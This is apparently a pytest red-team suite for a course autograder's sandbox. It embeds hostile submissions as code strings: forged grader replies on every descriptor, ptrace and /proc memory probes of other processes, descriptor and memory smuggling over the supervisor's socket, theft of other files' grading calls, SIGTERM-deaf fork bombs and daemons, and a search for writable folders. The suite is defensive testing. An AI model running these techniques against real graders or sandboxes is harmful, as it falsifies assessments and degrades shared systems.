"""Red team against the channels of the supervisor design: the runner's descriptors, its socket, its processes,
the judge's death, and the neighbours of a batch.

Student code runs in a runner (course.sandbox.runner): PID 1 of its own PID namespace, uid nobody at L3, holding only
its socket to the supervisor (fd 5), the current call's answer pipe (fd 3) and output pipe (fds 1 and 2). The
supervisor (course.sandbox.supervisor) holds the judge's socket and each call's result pipe and writes the only reply
the judge reads. Each attack below is a hostile submission that tries to get past that boundary:

1. reply forgery: complete replies (a course.sandbox.wire frame, and a supervisor-format reply, protocol.pack_reply)
   written on every descriptor the runner holds or can reopen through /proc, then /dev/null dup2'd over
   them, or the descriptors closed, or kept open; the answer pipe kept and written again later, or smuggled
   into the supervisor's socket so it never closes; memory smuggled into that socket so that killing the
   runner frees nothing while the supervisor reads a 60 MiB answer; a hunt for the supervisor's pid (ptrace,
   process_vm_writev, /proc/<pid>/mem); and answers whose shape the judge trusts (a list shorter than the
   cases it asked for);
2. control-channel theft: the runner receives on its own socket to take the next calls and answer them
   (meaning to answer another file's calls: its sec4 is a stub that must still earn 0), hangs up and floods
   its socket;
3. escape: daemons, threads, re-parenting, a timer that starts processes after the call returned, a fork bomb
   of processes that ignore SIGTERM; and the judge itself SIGKILLed mid-run, alone and in a batch;
4. harm to the neighbours of a batch: CPU, processes, memory, disk, descriptors, signals, stolen calls, with
   thirteen honest students (copies of solutions/) interleaved with the attackers, whose per-task points and
   test outcomes must equal theirs graded alone; and a search of the whole file system for a writable place.

Every attack is graded against an honest baseline: the same files as stubs (0 in the attacked tasks), every
other file the reference (full marks). rt.verdict (tests/conftest.py) also checks no marked process survives
and nothing planted ran. Every attack prints a line of its own (RT-...) and the test checks it reached the
feedback: an attack that silently did nothing proves nothing. Three attacks here got through until the
grader learnt to hold: stubs answering with an empty list (the judge now requires one answer per case asked),
a timer that forked after the call (runners are stopped between calls and ended if they keep a handler, a
timer, a thread or a process), and a batch's helper judge outliving the SIGKILLed main judge (it now dies
with it). Cases marked xfail(strict=True) work today; the reason says how (they raise GapShown, and only when the verdict fails for that reason alone, so a case that
fails for another reason is reported as a failure). RT_SHOW=1 prints what each single-run attack reported.
"""
from __future__ import annotations

import os
import signal
import subprocess
import sys
import textwrap
import time
import uuid
from dataclasses import dataclass
from pathlib import Path
from types import SimpleNamespace

import pytest
from attacks import ATTACKS
from conftest import (ROOT, S1, S3, S4, SOLUTIONS, SURVIVOR_WAIT, describe, environment, kill_marked,
                      marked_processes, results, stub, submission_from_solutions, tasks_of)

from course.content.curriculum import TASKS

SEED = ("--grader-seed", "20240611")
SLOW = (*SEED, "--grader-timeout", "3")


class GapShown(AssertionError):
    """The check failed only for the reason a known gap names (points above the baseline, a process left behind,
    a survivor of the judge): the attack works, as its xfail reason says."""


def gap(reason: str):
    """An attack that works today: the test must keep failing, and only for the reason given."""
    return pytest.mark.xfail(strict=True, raises=GapShown, reason=reason)


OTHER_PROBLEMS = ("INTERNALERROR", "exited with", "does not cover", "grader errors", "does not list", "(not attacked)",
                  "feedback shows", "planted code ran", "still alive")


def verdict(rt, graded, attacked: set[str], known: str | None = None, shows: str = "(attacked): earned",
            **kwargs) -> None:
    """rt.verdict; for a known gap, a failure that shows it (and nothing else) is a GapShown."""
    try:
        rt.verdict(graded, attacked=attacked, **kwargs)
    except AssertionError as e:
        message = str(e)
        others = [p for p in (*OTHER_PROBLEMS, "(attacked): earned") if p not in shows]
        if known and shows in message and not any(p in message for p in others):
            raise GapShown(message) from None
        raise


# ---------------------------------------------------------------- the attacker's toolbox (module-level code)
# Helpers every hostile file carries. _rt_request() finds the request the runner is answering (its `answer`
# frame, from the module's import); _rt_right() is the right answer to Task 1.1's calls, computed with
# F.linear, so a forged reply would earn the points if the judge took it; _rt_reply() wraps a value the
# way the supervisor does (protocol.pack_reply: a JSON header with status "ok", then the answer).

TOOLS = '''\
import json as _rt_json
import os as _rt_os
import signal as _rt_signal
import socket as _rt_socket
import struct as _rt_struct
import sys as _rt_sys
import time as _rt_time


def _rt_request():
    frame = _rt_sys._getframe(0)
    while frame is not None:
        if frame.f_code.co_name == "answer" and type(frame.f_locals.get("request")) is dict:
            return frame.f_locals["request"]
        frame = frame.f_back
    return None


def _rt_wire(value):
    from course.sandbox import wire
    return wire.dumps(value)


def _rt_frame(body):
    return _rt_struct.pack("<Q", len(body)) + body


def _rt_right(request):
    import torch.nn.functional as F
    if request is None:
        return {"value": None}
    probe, args = request["probe"], request["args"]
    if probe == "call" and args[0] == "linear_forward":
        return {"value": F.linear(*args[1])}
    if probe == "each" and args[0] == "call":
        return {"value": [{"value": F.linear(*case[1])} for case in args[1]]}
    return {"value": None}


def _rt_reply(value):
    header = _rt_json.dumps({"status": "ok", "seconds": 0.001}).encode()
    return _rt_frame(_rt_struct.pack("<Q", len(header)) + header + _rt_wire(value))


def _rt_fds():
    try:
        return sorted(int(n) for n in _rt_os.listdir("/proc/self/fd"))
    except OSError:
        return []


def _rt_say(*words):
    print(*words, flush=True)
'''


def hostile(file: str, code: str, bodies: dict[str, str] | None = None) -> dict[str, str]:
    """The stub of file carrying the toolbox and code at module level (it runs on every call: each call loads
    the module afresh), and bodies for some functions."""
    return {file: stub(file, bodies, TOOLS + textwrap.dedent(code))}


# ---------------------------------------------------------------- 1. reply forgery

FORGE_EVERYWHERE = '''\
_rt_req = _rt_request()
_rt_mine = _rt_fds()
_rt_say("RT-FDS", _rt_mine, "RT-PPID", _rt_os.getppid())
_rt_forged = _rt_reply(_rt_right(_rt_req))
_rt_plain = _rt_frame(_rt_wire(_rt_right(_rt_req)))
_rt_wrote = []
for _rt_fd in range(1024):
    # on the answer pipe (3) only the supervisor-format reply: the plain frame of the right answer there
    # would just be the right answer, which is honest work
    for _rt_data in ((_rt_forged,) if _rt_fd == 3 else (_rt_forged, _rt_plain)):
        try:
            _rt_os.set_blocking(_rt_fd, False)
            _rt_os.write(_rt_fd, _rt_data)
            _rt_wrote.append(_rt_fd)
        except OSError:
            pass
_rt_say("RT-WROTE", sorted(set(_rt_wrote)))
_rt_mode = "__MODE__"
if _rt_mode == "devnull":
    _rt_null = _rt_os.open(_rt_os.devnull, _rt_os.O_RDWR)
    for _rt_fd in _rt_mine:
        if _rt_fd != _rt_null:
            try:
                _rt_os.dup2(_rt_null, _rt_fd)
            except OSError:
                pass
elif _rt_mode == "closed":
    for _rt_fd in _rt_mine:
        try:
            _rt_os.close(_rt_fd)
        except OSError:
            pass
'''


def forge_everywhere(mode: str) -> dict[str, str]:
    """Both kinds of reply, with the right answer, on descriptors 0 to 1023; then mode: dup2 /dev/null over
    every descriptor the runner had, close them all, or keep them open."""
    return hostile(S1, FORGE_EVERYWHERE.replace("__MODE__", mode))


FORGE_THROUGH_PROC = '''\
_rt_req = _rt_request()
_rt_data = _rt_reply(_rt_right(_rt_req)) + _rt_frame(_rt_wire(_rt_right(_rt_req)))
_rt_pids = sorted(int(p) for p in _rt_os.listdir("/proc") if p.isdigit())
_rt_paths = []
for _rt_top in ["/proc/self/fd", "/proc/thread-self/fd", "/proc/1/fd", f"/proc/{_rt_os.getppid()}/fd",
                *(f"/proc/{p}/fd" for p in _rt_pids), *(f"/proc/{p}/task/{p}/fd" for p in _rt_pids)]:
    try:
        _rt_paths += [f"{_rt_top}/{n}" for n in _rt_os.listdir(_rt_top)]
    except OSError:
        pass
_rt_reached = set()
for _rt_path in _rt_paths:
    if _rt_path.rsplit("/", 1)[1] == "3":  # the answer pipe itself: see FORGE_EVERYWHERE
        continue
    try:
        _rt_fd = _rt_os.open(_rt_path, _rt_os.O_WRONLY | _rt_os.O_NONBLOCK)
    except OSError:
        continue
    try:
        _rt_os.write(_rt_fd, _rt_data)
        _rt_reached.add(_rt_os.readlink(_rt_path))
    except OSError:
        pass
    finally:
        _rt_os.close(_rt_fd)
_rt_say("RT-PIDS", _rt_pids, "RT-PPID", _rt_os.getppid(), "RT-REOPENED", sorted(_rt_reached))
'''


PTRACE_THE_SUPERVISOR = '''\
import ctypes as _rt_ctypes

_rt_libc = _rt_ctypes.CDLL(None, use_errno=True)
_rt_libc.ptrace.argtypes = [_rt_ctypes.c_long, _rt_ctypes.c_long, _rt_ctypes.c_void_p, _rt_ctypes.c_void_p]
_rt_libc.ptrace.restype = _rt_ctypes.c_long
PTRACE_ATTACH, PTRACE_DETACH = 16, 17


class _RtIovec(_rt_ctypes.Structure):
    _fields_ = [("base", _rt_ctypes.c_void_p), ("len", _rt_ctypes.c_size_t)]


def _rt_hunt():
    """Every pid this process can see, by /proc and by signal 0 over 1..65535, and what it could do to each."""
    child = _rt_os.fork()  # one process of its own, to show the tools work where they are allowed
    if child == 0:
        _rt_time.sleep(5)
        _rt_os._exit(0)
    seen = {int(p) for p in _rt_os.listdir("/proc") if p.isdigit()}
    for pid in range(1, 65536):
        try:
            _rt_os.kill(pid, 0)
            seen.add(pid)
        except ProcessLookupError:
            pass
        except PermissionError:
            seen.add(pid)
    me = _rt_os.getpid()
    done = {}
    buf = _rt_ctypes.create_string_buffer(b"x")
    for pid in sorted(seen - {me}):
        got = []
        if _rt_libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
            got.append("ptrace")
            _rt_os.waitpid(pid, 0)
            _rt_libc.ptrace(PTRACE_DETACH, pid, None, None)
        local, remote = _RtIovec(_rt_ctypes.addressof(buf), 1), _RtIovec(0x10000, 1)
        if _rt_libc.process_vm_writev(pid, _rt_ctypes.byref(local), 1, _rt_ctypes.byref(remote), 1, 0) >= 0:
            got.append("vm_writev")
        try:
            with open(f"/proc/{pid}/mem", "r+b", buffering=0):
                got.append("mem")
        except OSError:
            pass
        try:
            _rt_os.close(_rt_os.pidfd_open(pid))
            got.append("pidfd")
        except OSError:
            pass
        done[pid] = got
    _rt_os.kill(child, 9)
    _rt_os.waitpid(child, 0)
    foreign = {pid: got for pid, got in done.items() if pid != child}
    _rt_say("RT-ME", me, "RT-PPID", _rt_os.getppid(), "RT-CHILD", child, done.get(child), "RT-FOREIGN", foreign)


_rt_hunt()
'''


# Answers the judge trusts the shape of: Grading.run_each zips the submission's list of answers with the
# reference's, so a shorter list is checked only as far as it goes; three tests of sec3 zip the returned list
# with the reference's in the same way. An empty list passes them all.

EMPTY_LIST_ON_THE_ANSWER_PIPE = '''\
_rt_req = _rt_request()
if _rt_req is not None and _rt_req["probe"] in ("each", "loader", "split"):
    _rt_os.write(3, _rt_frame(_rt_wire({"value": []})))
    _rt_os.dup2(_rt_os.open(_rt_os.devnull, _rt_os.O_WRONLY), 3)  # what the runner writes next goes nowhere
    _rt_say("RT-EMPTY-ANSWER", _rt_req["probe"])
'''

EMPTY_LIST_BY_CLEARING_THE_REQUEST = '''\
_rt_req = _rt_request()
if _rt_req is not None and _rt_req["probe"] in ("each", "loader", "split"):
    _rt_req["args"][1].clear()  # the cases (each) or configs (loader, split): the probe then runs none of them
    _rt_say("RT-CLEARED", _rt_req["probe"])
'''



ANSWER_PIPE_WRITTEN_AGAIN = '''\
_rt_kept = _rt_os.dup(3)
_rt_late = _rt_frame(_rt_wire(_rt_right(_rt_request())))


def _rt_write_late(signum, frame):
    try:
        _rt_os.write(_rt_kept, _rt_late)  # the right answer, after the runner's own (a NotImplementedError)
        _rt_os.close(_rt_kept)
        _rt_say("RT-LATE-WRITE")
    except OSError:
        pass


_rt_signal.signal(_rt_signal.SIGALRM, _rt_write_late)
_rt_signal.setitimer(_rt_signal.ITIMER_REAL, 0.2)
_rt_say("RT-KEPT", _rt_kept)
'''


SMUGGLED_INTO_THE_SOCKET = '''\
if x.dim() == 3:
    sock = _rt_socket.socket(fileno=_rt_os.dup(5))
    sent = 0
    try:
        _rt_socket.send_fds(sock, [b"C"], [3, 1, 2, 5])  # the answer pipe, the output pipe, the socket itself
        sent += 1
        while True:
            _rt_socket.send_fds(sock, [b"C" + b"\\0" * 200, b"R"], [3], _rt_socket.MSG_DONTWAIT)
            sent += 1
    except OSError as e:
        _rt_say("RT-SMUGGLED", sent, type(e).__name__)
    sock.detach()
'''


MEMORY_IN_FLIGHT = '''\
if x.dim() == 3:
    block = b"\\1" * (1 << 20)
    sock = _rt_socket.socket(fileno=_rt_os.dup(5))
    first, in_flight = None, 0
    for _ in range(62):  # memory no process owns: memfds of 16 MiB (RLIMIT_FSIZE), filled, then in flight
        try:
            fd = _rt_os.memfd_create("rt")
            for _ in range(16):
                _rt_os.write(fd, block)
            _rt_socket.send_fds(sock, [b"C"], [fd])  # into the supervisor's socket, which it never reads
            in_flight += 1
        except OSError as e:
            _rt_say("RT-STOPPED", type(e).__name__, e.errno)
            break
        if first is None:
            first = fd
        else:
            _rt_os.close(fd)
    for _ in range(2):  # and memory processes own, up to the session's limit
        if _rt_os.fork() == 0:
            hoard = b"\\1" * (1 << 30)
            _rt_time.sleep(600)
            _rt_os._exit(0)
    _rt_say("RT-IN-FLIGHT", in_flight)
    # an answer of 60 MiB the supervisor must read into its own memory, sent from the memfd (no heap here)
    _rt_os.write(3, _rt_struct.pack("<Q", 60 << 20))
    sent = 0
    while sent < 60 << 20:
        sent += _rt_os.sendfile(3, first, 0, min(16 << 20, (60 << 20) - sent))
    _rt_say("RT-SENT", sent >> 20)
    _rt_time.sleep(600)
'''


# ---------------------------------------------------------------- 2. control-channel theft

STEAL_PRELUDE = '''\
_RT_SEC4 = __SEC4__


def _rt_steal(seconds):
    """Take calls off the runner's socket for a while and answer them: another file's calls with the right
    code kept here (sec4's reference), this file's with a NotImplementedError."""
    from course.sandbox import probes, protocol
    sock = _rt_socket.socket(fileno=_rt_os.dup(5))
    sock.settimeout(0.05)
    stolen = []
    end = _rt_time.monotonic() + seconds
    while _rt_time.monotonic() < end:
        try:
            message, fds, _, _ = _rt_socket.recv_fds(sock, 64, 3)
        except (TimeoutError, BlockingIOError):
            continue
        except OSError:
            break
        if len(fds) != 3:
            break
        request_r, answer_w, output_w = fds
        try:
            request = _rt_wire_loads(protocol.read_frame(request_r))
            what = (request["probe"], request["filename"])
            stolen.append(what)
            if request["filename"] == "sec4_training.py":
                module = probes.load_module("rt_sec4", "rt_sec4.py", _RT_SEC4.encode())
                value = {"value": probes.PROBES[request["probe"]](module, *request["args"])}
            else:
                value = {"error": {"stage": "call", "type": "NotImplementedError", "message": "stolen",
                                   "where": None, "not_implemented": True}}
            _rt_os.write(output_w, f"RT-STOLE {what}\\n".encode())
            protocol.write_all(answer_w, _rt_frame(_rt_wire(value)))
        except Exception as e:
            _rt_os.write(output_w, f"RT-STEAL-FAILED {type(e).__name__}\\n".encode())
        for fd in fds:
            _rt_os.close(fd)
    sock.detach()
    return stolen


def _rt_wire_loads(frame):
    from course.sandbox import wire
    return wire.loads(frame)


def _rt_answer_now_then_steal(seconds):
    """End this call early (the supervisor reads to the end of the answer pipe), then steal the next ones."""
    error = {"error": {"stage": "call", "type": "NotImplementedError", "message": "wrong on purpose",
                       "where": None, "not_implemented": True}}
    _rt_os.write(3, _rt_frame(_rt_wire(error)))
    _rt_os.dup2(_rt_os.open(_rt_os.devnull, _rt_os.O_WRONLY), 3)
    return _rt_steal(seconds)
'''


def steal(seconds: float) -> dict[str, str]:
    """sec1 steals the calls after each of its own and answers any of sec4's (a stub) with sec4's reference."""
    prelude = STEAL_PRELUDE.replace("__SEC4__", repr((SOLUTIONS / S4).read_text(encoding="utf-8")))
    body = f"_rt_say('RT-STEALING')\n_rt_answer_now_then_steal({seconds})\n"
    files = {S1: stub(S1, {"linear_forward": body, "parameter_shapes": body, "count_parameters": body,
                           "first_layer_for": body}, TOOLS + textwrap.dedent(prelude)),
             S4: stub(S4)}
    return files


HANG_UP = '''\
if x.dim() == 3:
    sock = _rt_socket.socket(fileno=_rt_os.dup(5))
    sent = 0
    try:
        while True:
            sock.send(b"R" if sent % 2 else b"C" * 4096, _rt_socket.MSG_DONTWAIT)
            sent += 1
    except OSError as e:
        _rt_say("RT-FLOODED", sent, type(e).__name__)
    sock.shutdown(_rt_socket.SHUT_RDWR)
    sock.close()
    a, b = _rt_socket.socketpair(_rt_socket.AF_UNIX, _rt_socket.SOCK_SEQPACKET)
    _rt_os.dup2(a.fileno(), 5)  # a socket of its own where the supervisor's was
    _rt_say("RT-HUNG-UP")
'''


# ---------------------------------------------------------------- 3. escape

ZOO = '''\
import threading as _rt_threading

_rt_mine = lambda: sorted(int(p) for p in _rt_os.listdir("/proc")  # what this runner or its calls started
                          if p.isdigit() and int(p) not in (_rt_os.getpid(), _rt_os.getppid()))
_rt_left = _rt_mine()
if _rt_left:
    _rt_say("RT-LEFT-BEHIND", _rt_left)  # processes an earlier call started are still here


def _rt_deaf():
    for s in (_rt_signal.SIGTERM, _rt_signal.SIGHUP, _rt_signal.SIGINT, _rt_signal.SIGQUIT, _rt_signal.SIGUSR1):
        _rt_signal.signal(s, _rt_signal.SIG_IGN)


def _rt_linger(seconds=30):
    end = _rt_time.monotonic() + seconds
    while _rt_time.monotonic() < end:
        _rt_time.sleep(0.05)


def _rt_zoo():
    import ctypes
    spawned = []
    pid = _rt_os.fork()  # a setsid daemon, double-forked, deaf to SIGTERM and friends
    if pid == 0:
        try:
            _rt_os.setsid()
            if _rt_os.fork() == 0:
                _rt_deaf()
                _rt_linger()
        finally:
            _rt_os._exit(0)
    _rt_os.waitpid(pid, 0)
    spawned.append("daemon")
    pid = _rt_os.fork()  # a process group of its own
    if pid == 0:
        _rt_os.setpgid(0, 0)
        _rt_deaf()
        _rt_linger()
        _rt_os._exit(0)
    spawned.append("setpgid")
    pid = _rt_os.fork()  # a subreaper whose grandchildren re-parent to it, and whose own exit re-parents them
    if pid == 0:
        ctypes.CDLL(None).prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER
        for _ in range(3):
            if _rt_os.fork() == 0:
                if _rt_os.fork() == 0:
                    _rt_deaf()
                    _rt_linger()
                _rt_os._exit(0)
        _rt_time.sleep(0.2)
        _rt_os._exit(0)
    spawned.append("subreaper")
    try:  # a program of its own, the marker in its argv
        _rt_os.posix_spawn("/bin/sleep", ["sleep-__MARK__", "30"], {"PATH": "/bin"},
                           setsid=True, setsigdef=(), setsigmask=())
        spawned.append("spawn")
    except OSError as e:
        spawned.append(f"spawn-{type(e).__name__}")
    for daemon in (True, False):  # threads: one daemon, one not
        _rt_threading.Thread(target=_rt_linger, daemon=daemon).start()
    spawned.append("threads")
    _rt_say("RT-ZOO", spawned)


_rt_zoo()
'''


TIMER = '''\
_rt_mine = lambda: sorted(int(p) for p in _rt_os.listdir("/proc")  # what this runner or its calls started
                          if p.isdigit() and int(p) not in (_rt_os.getpid(), _rt_os.getppid()))
_rt_left = _rt_mine()
if _rt_left:
    _rt_say("RT-LEFT-BEHIND", _rt_left)  # processes an earlier call started are still here


def _rt_after(signum, frame):
    """Every 5 ms; acts only while the runner waits for its next call (course.sandbox.runner.next_call is on the stack),
    that is after the call returned: then it starts one process of its own."""
    while frame is not None and frame.f_code.co_name != "next_call":
        frame = frame.f_back
    if frame is None or _rt_mine():
        return
    if _rt_os.fork() == 0:
        _rt_os.setsid()
        for s in (_rt_signal.SIGTERM, _rt_signal.SIGHUP, _rt_signal.SIGINT):
            _rt_signal.signal(s, _rt_signal.SIG_IGN)
        _rt_time.sleep(30)
        _rt_os._exit(0)


_rt_signal.signal(_rt_signal.SIGALRM, _rt_after)
_rt_signal.setitimer(_rt_signal.ITIMER_REAL, 0.005, 0.005)
_rt_say("RT-TIMER-SET")
'''



FORK_BOMB = '''\
if x.dim() == 3:
    made = 0
    while made < 400:
        try:
            pid = _rt_os.fork()
        except OSError:
            break
        if pid == 0:
            for s in (_rt_signal.SIGTERM, _rt_signal.SIGHUP, _rt_signal.SIGINT):
                _rt_signal.signal(s, _rt_signal.SIG_IGN)
            try:
                _rt_os.setsid()
                if _rt_os.fork() == 0:  # the grandchild re-parents to the runner (PID 1 of its namespace)
                    _rt_time.sleep(600)
            except OSError:
                _rt_time.sleep(600)
            _rt_os._exit(0)
        made += 1
    _rt_say("RT-FORKED", made)
'''


# ---------------------------------------------------------------- 4. harm (single run): where it can write

WRITABLE = '''\
def _rt_writable():
    """Every folder (outside /proc and /sys) where this process can create a file, but its own working one."""
    here = _rt_os.path.realpath(_rt_os.getcwd())
    found = []
    for top in ["/", "/dev/shm", "/dev/mqueue", "/run", "/var/tmp", "/tmp", _rt_os.path.expanduser("~")]:
        for folder, subfolders, _ in _rt_os.walk(top):
            subfolders[:] = [s for s in subfolders if _rt_os.path.join(folder, s) not in ("/proc", "/sys")]
            if folder.count("/") > 6:
                subfolders[:] = []
            if _rt_os.path.realpath(folder) == here or not _rt_os.access(folder, _rt_os.W_OK):
                continue
            path = _rt_os.path.join(folder, ".rt-__MARK__")
            try:
                _rt_os.close(_rt_os.open(path, _rt_os.O_CREAT | _rt_os.O_EXCL | _rt_os.O_WRONLY, 0o644))
                found.append(folder)
                _rt_os.unlink(path)
            except OSError:
                pass
    return sorted(set(found))
'''


# ---------------------------------------------------------------- the table of single-run attacks


@dataclass(frozen=True)
class Case:
    """One attack graded alone: its hostile files (before rt.fill), the tasks it attacks (its baseline there
    is 0: the same files as stubs), what must reach their feedback (the attack ran), what must not (it
    worked), the options, and an xfail reason when it works today."""

    name: str
    files: dict[str, str]
    attacked: set[str]
    ran: tuple[str, ...]
    not_in_feedback: tuple[str, ...] = ()
    args: tuple[str, ...] = SEED
    gap: str | None = None
    gap_shows: str = "(attacked): earned"  # the verdict's problem that shows the gap
    doc: str = ""


S1_TASKS, S3_TASKS, S4_TASKS = tasks_of(S1), tasks_of(S3), tasks_of(S4)

CASES = [
    Case("reply_on_every_descriptor_then_devnull", forge_everywhere("devnull"), S1_TASKS,
         ("RT-PPID 1", "RT-WROTE [0, 1, 2, 3, 5]"),
         doc="both kinds of reply with the right answer on fds 0-1023, then /dev/null dup2'd over every fd"),
    Case("reply_on_every_descriptor_then_closed", forge_everywhere("closed"), S1_TASKS, ("RT-WROTE [0, 1, 2, 3, 5]",),
         doc="the same, then every descriptor closed (the runner's own answer fails: it exits)"),
    Case("reply_on_every_descriptor_kept_open", forge_everywhere("open"), S1_TASKS, ("RT-WROTE [0, 1, 2, 3, 5]",),
         doc="the same, the descriptors kept open (the runner then writes its own answer too)"),
    Case("reply_through_proc_fd_of_every_visible_pid", hostile(S1, FORGE_THROUGH_PROC), S1_TASKS,
         ("RT-PPID 1",),
         doc="/proc/self/fd/*, /proc/1/fd/*, /proc/<ppid>/fd/* and /proc/<pid>/fd/* of every pid reopened for writing"),
    Case("ptrace_and_mem_of_every_visible_pid", hostile(S1, PTRACE_THE_SUPERVISOR), S1_TASKS,
         ("RT-PPID 1", "RT-FOREIGN {1: ['pidfd']}"),  # the supervisor: a pidfd, and nothing it allows
         doc="pids found by /proc and signal 0 over 1-65535: ptrace, process_vm_writev, /proc/<pid>/mem, pidfd"),
    Case("empty_list_on_the_answer_pipe", {**hostile(S1, EMPTY_LIST_ON_THE_ANSWER_PIPE),
                                           **hostile(S3, EMPTY_LIST_ON_THE_ANSWER_PIPE),
                                           **hostile(S4, EMPTY_LIST_ON_THE_ANSWER_PIPE)},
         S1_TASKS | S3_TASKS | S4_TASKS, (),
         doc="stubs that write {'value': []} on the answer pipe for each/loader/split calls, /dev/null dup2'd over it"),
    Case("empty_list_by_clearing_the_request", {**hostile(S1, EMPTY_LIST_BY_CLEARING_THE_REQUEST),
                                                **hostile(S3, EMPTY_LIST_BY_CLEARING_THE_REQUEST),
                                                **hostile(S4, EMPTY_LIST_BY_CLEARING_THE_REQUEST)},
         S1_TASKS | S3_TASKS | S4_TASKS, (),
         doc="no descriptor touched: the stubs clear the cases of the request the runner is answering"),
    Case("answer_pipe_kept_and_written_again", hostile(S1, ANSWER_PIPE_WRITTEN_AGAIN), S1_TASKS, ("RT-KEPT",),
         doc="a copy of the answer pipe kept; a timer writes the right answer into it after the runner's own"),
    Case("answer_pipe_smuggled_into_the_supervisors_socket",
         hostile(S1, "", {"linear_forward": SMUGGLED_INTO_THE_SOCKET + "raise NotImplementedError('Task 1.1')\n"}),
         S1_TASKS, ("RT-SMUGGLED",), args=SLOW,
         doc="the answer pipe, output pipe and the socket itself sent over the socket (SCM_RIGHTS), then a flood"),
    Case("memory_held_in_flight_past_the_runner",
         hostile(S1, "", {"linear_forward": MEMORY_IN_FLIGHT + "raise NotImplementedError('Task 1.1')\n"}),
         S1_TASKS, ("RT-IN-FLIGHT 6", "RT-SENT 60"), args=(*SEED, "--grader-timeout", "5"),
         doc="62 memfds of 16 MiB sent into the supervisor's socket (memory no process owns, so the OOM killer cannot "
             "free it), two processes of 1 GiB, and a 60 MiB answer the supervisor must read into its own memory "
             "(the supervisor shares the submission's cgroup)"),
    Case("steals_the_next_calls_for_a_stub_file", steal(0.6), S1_TASKS | S4_TASKS, ("RT-STEALING", "RT-STOLE ('"),
         not_in_feedback=("sec4_training.py')",),
         doc="sec1 answers its call early, then receives on its socket to take and answer the next calls"),
    Case("hangs_up_and_floods_its_socket",
         hostile(S1, "", {"linear_forward": HANG_UP + "raise NotImplementedError('Task 1.1')\n"}),
         S1_TASKS, ("RT-FLOODED",),
         doc="the runner floods its socket to the supervisor, shuts it down and puts a socket of its own at fd 5"),
    Case("daemons_threads_and_reparenting_at_import", hostile(S1, ZOO), S1_TASKS, ("RT-ZOO",),
         not_in_feedback=("RT-LEFT-BEHIND",),
         doc="every call: setsid double fork, setpgid, a subreaper's re-parented grandchildren, posix_spawn, threads"),
    Case("timer_starts_a_process_after_the_call", hostile(S1, TIMER), S1_TASKS, ("RT-TIMER-SET",),
         not_in_feedback=("RT-LEFT-BEHIND",),
         doc="a SIGALRM handler forks a process after the call returned, while the runner waits for the next one"),
    Case("fork_bomb_deaf_to_sigterm_within_the_pids_limit",
         hostile(S1, "", {"linear_forward": FORK_BOMB + "raise NotImplementedError('Task 1.1')\n"}),
         S1_TASKS, ("RT-FORKED",), args=SLOW,
         doc="up to 400 forks, each deaf to SIGTERM, setsid, double-forked so they re-parent to the runner"),
    Case("searches_every_folder_for_a_writable_place",
         hostile(S1, WRITABLE, {"linear_forward": "if x.dim() == 3:\n    _rt_say('RT-WRITABLE', _rt_writable())\n"
                                                  "raise NotImplementedError('Task 1.1')\n"}),
         S1_TASKS, ("RT-WRITABLE []",),
         doc="a file created in every folder the runner can write (its own working folder aside)"),
]


@pytest.mark.parametrize("case", [pytest.param(c, id=c.name, marks=[gap(c.gap)] if c.gap else []) for c in CASES])
def test_attack(rt, case: Case):
    graded = rt.grade(rt.folder(case.files), *case.args)
    texts = [text for task in sorted(case.attacked) for text in graded.feedback(task)]
    if os.environ.get("RT_SHOW"):
        import re
        print(case.name, sorted({m for t in texts for m in re.findall(r"RT-[A-Z-]+[^\n]{0,200}", t)}))
    missing = [needle for needle in case.ran if not any(rt.fill(needle) in text for text in texts)]
    assert not missing, f"the attack did not run as written: {missing} in no feedback of {sorted(case.attacked)}:\n" + \
        "\n".join(texts[:6])
    verdict(rt, graded, case.attacked, case.gap, case.gap_shows, not_in_feedback=case.not_in_feedback)


def test_attacks_are_new_and_many():
    """at least 15 attacks in the table, none named like one of tests/attacks.py"""
    assert len(CASES) >= 15
    assert not {c.name for c in CASES} & set(ATTACKS)


# ---------------------------------------------------------------- 3. the judge SIGKILLed mid-run
# The attack keeps its calls busy (each sleeps 2.5 s of its 3) and leaves a setsid daemon, double-forked and deaf
# to SIGTERM, at every call; the judge (pytest, in a subprocess) is SIGKILLed while a call runs. SURVIVOR_WAIT
# seconds later no process of the run may be alive: none marked by the attack, none whose command line names
# the run's folder (the judge, a helper judge, the zygote and the supervisors and runners it forked all do).

BUSY_WITH_A_DAEMON = '''\
_rt_pid = _rt_os.fork()
if _rt_pid == 0:
    try:
        _rt_os.setsid()
        if _rt_os.fork() == 0:
            for _rt_s in (_rt_signal.SIGTERM, _rt_signal.SIGHUP, _rt_signal.SIGINT):
                _rt_signal.signal(_rt_s, _rt_signal.SIG_IGN)
            _rt_time.sleep(60)
    finally:
        _rt_os._exit(0)
_rt_os.waitpid(_rt_pid, 0)
_rt_say("RT-BUSY")
_rt_time.sleep(2.5)
'''


def processes_naming(needle: str) -> list[int]:
    """Live processes whose command line holds needle."""
    found = []
    for entry in os.scandir("/proc"):
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            with open(f"/proc/{entry.name}/cmdline", "rb") as f:
                cmdline = f.read()
            with open(f"/proc/{entry.name}/stat", "rb") as f:
                state = f.read().rsplit(b")", 1)[1].split()[0]
        except (OSError, IndexError):
            continue
        if needle.encode() in cmdline and state not in (b"Z", b"X"):
            found.append(int(entry.name))
    return found


def kill_all(pids: list[int]) -> None:
    for pid in pids:
        try:
            os.kill(pid, signal.SIGKILL)
        except (ProcessLookupError, PermissionError):
            pass


def sigkill_the_judge(rt, args: list[str], busy: int) -> tuple[list[str], list[str], str]:
    """Start `pytest grader *args` in rt.tmp/rt.tag, SIGKILL it once busy marked processes run, and return what of
    the attack and of the run is alive SURVIVOR_WAIT seconds later (then kill it), and the run's output."""
    log = rt.tmp / "judge.log"
    with open(log, "wb") as output:
        proc = subprocess.Popen([sys.executable, "-m", "pytest", "grader", *args, "-p", "no:cacheprovider", *SLOW],
                                cwd=ROOT, env=environment(), stdin=subprocess.DEVNULL, stdout=output,
                                stderr=subprocess.STDOUT, start_new_session=True)
    try:
        deadline = time.monotonic() + 120
        while len(marked_processes(rt.mark)) < busy and proc.poll() is None and time.monotonic() < deadline:
            time.sleep(0.05)
        assert proc.poll() is None, f"the run ended before the attack was busy:\n{log.read_text()[-3000:]}"
        assert len(marked_processes(rt.mark)) >= busy, f"the attack never got busy:\n{log.read_text()[-3000:]}"
        time.sleep(0.3)
        os.kill(proc.pid, signal.SIGKILL)
        proc.wait()
        time.sleep(SURVIVOR_WAIT)
